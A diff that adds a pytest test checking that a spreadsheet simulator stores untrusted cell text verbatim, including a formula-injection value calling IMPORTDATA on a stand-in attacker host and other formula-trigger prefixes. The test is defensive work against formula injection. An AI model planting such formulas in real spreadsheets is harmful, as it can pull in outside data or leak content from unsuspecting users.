@@ -131,6 +131,13 @@ def test_rows_are_appended(simulator: Simulator) -> None:
     assert simulator.summary()["duplicate_effects"] == 0
 
 
+def test_text_of_strangers_is_no_formula(simulator: Simulator) -> None:
+    cells = ['=IMPORTDATA("https://evil.example")', "+1+2", "-A1", "@x", "-5", "+49", "plain"]
+    one(simulator, "sheets.append_rows", spreadsheet=SHEET, rows=[cells])
+    rows = simulator.control("GET", f"sheets?owner={OWNERS[0]}")[SHEET][0]["newestRows"]
+    assert rows == [cells]
+
+
 @pytest.mark.parametrize(
     "more",
     [
